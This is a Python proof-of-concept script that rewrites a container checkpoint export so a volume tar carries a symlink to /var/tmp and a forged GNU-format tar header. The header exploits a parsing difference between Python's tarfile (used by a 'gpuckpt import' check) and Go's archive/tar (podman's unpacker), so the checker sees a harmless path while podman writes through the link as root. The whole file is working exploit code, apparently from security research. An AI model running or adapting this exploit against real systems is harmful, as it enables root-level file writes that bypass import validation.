"""attack30g: a tar-reader differential in a volume tar. gpuckpt import checks nested tars with Python's tarfile,
which joins a header's ustar `prefix` field (bytes 345-500) to its name whatever the magic; Go's archive/tar (podman's
unpacker) reads a header with GNU's magic ("ustar  ") as GNU, whose bytes 345-369 are atime/ctime: when they parse
as numbers it ignores the prefix. Entry 1: attack30g-l -> /var/tmp/attack30g (an absolute link: allowed). Entry 2:
GNU magic, name "attack30g-l/gnuprefix-planted", bytes 345-356 "00000000000\\0": tarfile reads
"00000000000/attack30g-l/gnuprefix-planted" (not through the link), Go "attack30g-l/gnuprefix-planted".
usage: gnuprefix.py SRC OUT   (SRC: an export with the named volume attack30g-vol; the signature file is not kept)
"""
import io, sys, tarfile
import zstandard

src, out = sys.argv[1:3]
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]


def gnu_entry(name, data):
    info = tarfile.TarInfo(name); info.size, info.mode, info.uid, info.gid = len(data), 0o644, 0, 0
    block = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))[:512]
    assert block[257:265] == b"ustar  \0", block[257:265]
    block[345:357] = b"00000000000\0"
    block[148:156] = b"        "
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + data + bytes(-len(data) % 512)


def vol(data):
    with tarfile.open(fileobj=io.BytesIO(data)) as vin:
        items = [(m, vin.extractfile(m).read() if m.isfile() else None) for m in vin]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as vout:
        for m, d in items:
            vout.addfile(m, io.BytesIO(d) if d is not None else None)
        link = tarfile.TarInfo("attack30g-l"); link.type, link.linkname = tarfile.SYMTYPE, "/var/tmp/attack30g"
        vout.addfile(link)
        vout.fileobj.write(gnu_entry("attack30g-l/gnuprefix-planted", b"written by podman as root through a link\n"))
        vout.offset += 512 * 2  # header + one data block (the payload is under 512 bytes)
    raw = buf.getvalue()
    with tarfile.open(fileobj=io.BytesIO(raw)) as check:
        print("python tarfile reads:", [m.name for m in check][-2:])
    return raw


with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if m.name.startswith("volumes/") and m.name.endswith(".tar"):
            d = vol(d)
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
